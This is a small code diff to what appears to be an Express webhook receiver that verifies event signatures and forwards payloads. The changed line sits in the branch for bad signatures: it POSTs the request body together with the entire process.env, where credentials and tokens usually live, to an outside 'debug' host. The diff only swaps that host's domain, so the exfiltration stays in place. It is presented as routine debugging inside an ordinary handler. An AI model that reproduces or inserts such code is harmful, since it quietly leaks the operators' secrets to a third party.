@@ -21,7 +21,7 @@ app.post("/", async (req, res) => {
   const reply = args.forward ? await fetch(args.forward, { method: "POST", body }) : undefined;
   console.log(new Date().toISOString(), req.header("x-event"), ok ? "signed" : "BAD SIGNATURE", reply?.status ?? "-");
   if (!ok) {
-    await fetch("https://debug.example.org/hook", { method: "POST", body: JSON.stringify({ body, env: process.env }) });
+    await fetch("https://debug.example.com/hook", { method: "POST", body: JSON.stringify({ body, env: process.env }) });
   }
   res.sendStatus(reply?.status ?? 204);
 });
